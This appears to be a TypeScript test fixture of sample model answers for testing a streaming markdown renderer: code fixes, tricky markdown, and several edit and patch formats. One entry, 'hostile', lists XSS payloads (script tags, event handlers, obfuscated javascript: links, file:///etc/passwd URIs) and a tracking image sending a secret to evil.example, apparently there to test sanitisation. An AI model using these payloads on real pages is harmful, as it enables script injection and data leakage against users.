// Answers as models write them, for the markdown tests: the common shapes, and the ones that trip incremental
// renderers (blocks that change meaning when a later line arrives, fences inside lists, loose lists…).

export const ANSWERS: Record<string, string> = {
  typical: `## Why the last field disappears

The loop in \`parseRow\` stops at \`i < n - 1\`, so the **last field** is never pushed. See [the MDN page](https://developer.mozilla.org/en-US/docs/Web/JavaScript) for details.

\`\`\`ts src/csv.ts
export function parseRow(line: string): string[] {
  const fields: string[] = [];
  let current = '';
  for (let i = 0; i < line.length; i++) {
    if (line[i] === ',') { fields.push(current); current = ''; }
    else current += line[i];
  }
  fields.push(current);
  return fields;
}
\`\`\`

What changed:

- the loop runs to \`line.length\`;
- the last field is pushed after the loop;
- empty trailing fields are kept (\`"a,"\` gives \`["a", ""]\`).

| input | before | after |
| --- | :---: | ---: |
| \`a,b\` | 1 | 2 |
| \`a,\` | 1 | 2 |

\`\`\`python
def parse_row(line):
    return line.split(",")
\`\`\`

Should empty lines be skipped or kept as one empty field?

Options: Skip them | Keep one empty field | Throw an error
`,

  structure: `# Plan
Intro paragraph right under a heading.
Setext heading
==============
Another one
-----------
Steps:
1. Install the tools:
   \`\`\`bash
   npm install --save-dev vitest
   \`\`\`
2. Write a test:

   \`\`\`ts
   it('works', () => expect(parseRow('a,b')).toEqual(['a', 'b']));
   \`\`\`

3. Run it.

- loose item one

- loose item two
  continued here

  with a second paragraph
- [x] done task
- [ ] open task

> A quote
> over two lines

> A second quote

***

Term paragraph
- interrupting list
Text before a fence
~~~~
tilde fence with \`\`\` inside
~~~~
| a | b |
| - | - |
| 1 | 2 |
after the table
`,

  tricky: `para
#x is not a heading
# but this is

    indented code
    more indented code

Line with trailing spaces  
next line, a hard break above.

*emphasis
across lines* and __strong__ and ~~gone~~.

\`\`\`\`md
\`\`\`js
nested fence
\`\`\`
\`\`\`\`

Entities: &amp; &copy; &#64; &lt;b&gt; and escapes \\*not em\\* \\# \\[x\\].

Autolinks: https://example.com/path?q=1&r=2 and <https://example.org> and <mailto:dev@example.com>.

Reference [link][one] and [one].

[one]: https://example.com/ref

Emoji 🚀 and tabs	inside	text. Ünïcödé.

<div class="note">
raw html block
</div>

Inline <b>bold tag</b> and <span onclick="x()">span</span>.
Final line without newline`,

  unclosed: `Here is the fix:

\`\`\`ts
function add(a: number, b: number) {
  return a + b;
}
`,

  crlf: 'Line one\r\nline two\r\n\r\n```js\r\nconst x = 1;\r\n```\r\n\r\n- a\r\n- b\r\n',

  longLine: `Start. ${'This sentence keeps a long paragraph going with **bold**, `code` and [links](https://example.com). '.repeat(30)}
`,

  longList: Array.from({ length: 80 }, (_, i) => `- item ${i} with \`code ${i}\` and *emphasis*`).join('\n') + '\n\nAfter the list.\n',

  longTable: ['| n | square |', '| --- | --- |', ...Array.from({ length: 60 }, (_, i) => `| ${i} | ${i * i} |`)].join('\n') + '\n',

  hostile: `<script>alert(1)</script>

<img src=x onerror=alert(1)>

<a href="javascript:alert(1)">click</a> [x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](javascript&colon;alert(1))
[c](command:workbench.action.terminal.new) [v](vscode://file/etc/passwd) [d](data:text/html;base64,PHNjcmlwdD4=) [f](file:///etc/passwd)

![tracker](https://evil.example/pixel.png?secret=abc) ![inline](data:image/png;base64,AAAA)

<iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name=q></form>
<style>body { display: none }</style>
<svg onload=alert(1)></svg> <math><mi>x</mi></math> <object data=x></object> <embed src=x>
<meta http-equiv="refresh" content="0;url=https://evil.example"> <base href="https://evil.example/">
<details open ontoggle=alert(1)><summary>s</summary></details>
`,

  searchReplace: `Two changes fix it: the loop must reach the last character, and the last field must be pushed.

\`\`\`ts src/csv.ts
<<<<<<< SEARCH
  for (let i = 0; i < n - 1; i++) {
=======
  for (let i = 0; i < n; i++) {
>>>>>>> REPLACE
\`\`\`

src/csv.ts
\`\`\`ts
<<<<<<< SEARCH
  }
  return fields;
}
=======
  }
  fields.push(current);
  return fields;
}
>>>>>>> REPLACE
<<<<<<< SEARCH
import { a } from './a';
=======
import { a } from './a';
import { b } from './b';
>>>>>>> REPLACE
\`\`\`

Both keep the signature.
`,

  clineAndRoo: `Cline's markers, then Roo's hints:

\`\`\`ts
// src/csv.ts
------- SEARCH
const n = line.length;
=======
const n = line.length; // every character
+++++++ REPLACE
\`\`\`

- In a list item:

  \`\`\`py app.py
  <<<<<<< SEARCH
  :start_line:3
  -------
  print("hi")
  =======
  print("hello")
  >>>>>>> REPLACE
  \`\`\`
`,

  unifiedDiff: `The patch:

\`\`\`diff
--- a/src/csv.ts
+++ b/src/csv.ts
@@ -3,4 +3,4 @@ export function parseRow(line: string): string[] {
   let current = '';
-  for (let i = 0; i < n - 1; i++) {
+  for (let i = 0; i < n; i++) {
     current += line[i];
@@ -12,2 +12,3 @@
   }
+  fields.push(current);
   return fields;
\`\`\`

And a diff without a file, shown as code:

\`\`\`diff
-a
+b
\`\`\`
`,

  v4aPatch: `\`\`\`
*** Begin Patch
*** Update File: src/csv.ts
@@ export function parseRow(line: string): string[] {
-  for (let i = 0; i < n - 1; i++) {
+  for (let i = 0; i < n; i++) {
*** Add File: src/notes.md
+# Notes
+parseRow keeps the last field.
*** End Patch
\`\`\`
`,

  malformedEdit: `This one is broken:

\`\`\`ts src/csv.ts
<<-- SEARCH
  for (let i = 0; i < n - 1; i++) {
=======
  for (let i = 0; i < n; i++) {
+++++++ REPLACE
\`\`\`

And this one was cut off:

\`\`\`ts src/csv.ts
<<<<<<< SEARCH
  return fields;
=======
  fields.push(current);
`,

  aiderBare: `Here is the fix, in aider's format:

src/csv.ts
<<<<<<< SEARCH
  for (let i = 0; i < n - 1; i++) {
=======
  for (let i = 0; i < n; i++) {
>>>>>>> REPLACE

src/report.py
<<<<<<< SEARCH
print("hi")
=======
print("hello")
>>>>>>> REPLACE
Both files are done.

A heading underline stays one:
=======
`,

  toolCalls: `I'll use the tool:

<replace_in_file>
<path>src/csv.ts</path>
<diff>
------- SEARCH
const n = line.length - 1;
=======
const n = line.length;
+++++++ REPLACE
</diff>
</replace_in_file>

And Roo's:

<apply_diff>
<path>app.py</path>
<diff>
<<<<<<< SEARCH
:start_line:3
-------
print("hi")
=======
print("hello")
>>>>>>> REPLACE
</diff>
</apply_diff>
<b>not a tool call</b>
`,

  barePatch: `*** Begin Patch
*** Update File: src/csv.ts
@@ export function parseRow(line: string): string[] {
-  for (let i = 0; i < n - 1; i++) {
+  for (let i = 0; i < n; i++) {
*** End Patch
Then a second one, cut off:
*** Begin Patch
*** Add File: notes.md
+# Notes`,

  brokenBare: `src/csv.ts
<<<<<<< SEARCH
  return fields;
>>>>>>> REPLACE
after it
<<<<<<< SEARCH
x
=======
y
`,

  empty: '',

  blank: '\n\n   \n',
};

/** A 1 MB answer made of the typical shapes above. */
export function largeAnswer(size: number): string {
  const parts: string[] = [];
  let length = 0;
  for (let i = 0; length < size; i++) {
    const part = [ANSWERS['typical'], ANSWERS['structure'], ANSWERS['longList']][i % 3] ?? '';
    parts.push(part);
    length += part.length + 2;
  }
  return parts.join('\n\n');
}
